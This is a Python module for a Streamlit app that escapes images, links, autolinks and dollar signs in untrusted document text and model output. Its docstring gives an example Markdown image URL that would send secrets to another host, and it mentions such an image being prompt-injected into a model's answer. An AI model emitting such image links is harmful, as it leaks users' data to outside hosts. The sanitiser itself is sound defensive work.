"""Untrusted text made safe for Streamlit's Markdown: no remote image, no link, no LaTeX by accident.

Everything the app draws from a document or an answer (titles, passages, headings, file names,
questions, the model's text, error messages that quote them) passes through :func:`markdown_text`
before it reaches ``st.markdown``, ``st.caption``, ``st.info``, a subheader or a widget label:
Streamlit renders Markdown in all of them, labels included. A Markdown image makes the browser fetch
its URL the moment it is drawn, so ``![x](http://host/leak.png?q=secret)`` in a document (or
prompt-injected into an answer) would send whatever the URL holds to another host. Raw HTML is not
a concern: Streamlit escapes it unless ``unsafe_allow_html`` is set, which this app never does.

What is neutralised (CommonMark syntax; the text still reads the same):
- images, inline or by reference: ``![`` becomes ``!\\[``, so no image syntax is left;
- links: the ``]`` that opens a link target (``](``), a reference (``][``) or a link reference
  definition (``]:``) is escaped, so ``[text](url)`` shows as written and nothing is a link;
- autolinks ``<http://...>``: the ``<`` is escaped. (A bare URL may still be underlined as a link
  by GitHub-flavoured Markdown; a link is never fetched unless clicked.)
- ``$``: escaped, so prices are not typeset as LaTeX.

A bracket or ``!`` that is already escaped stays escaped: the escape is added only where the
character is active (preceded by an even number of backslashes).
"""

from __future__ import annotations

import re

# An active (not backslash-escaped) "!" before "[", "]" before "(", "[" or ":", or "<" before a URL
# scheme or "www.": the characters that start an image, a link target or reference, or an autolink.
_ACTIVE_MARKUP_RE = re.compile(
    r"(?<!\\)((?:\\\\)*)(!(?=\[)|\](?=[(\[:])|<(?=[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.))"
)


def markdown_text(text: str) -> str:
    """``text`` for any Streamlit call that renders Markdown, with images and links neutralised.

    Args:
        text: Untrusted text (document content, titles, names, model output, user input).

    Returns:
        Markdown that displays as ``text`` reads, but loads nothing and links nowhere (see the
        module docstring for the exact rules).
    """
    return _ACTIVE_MARKUP_RE.sub(r"\1\\\2", text).replace("$", "\\$")


def bold(text: str) -> str:
    """``**text**`` with ``text`` neutralised by :func:`markdown_text`."""
    return f"**{markdown_text(text)}**"
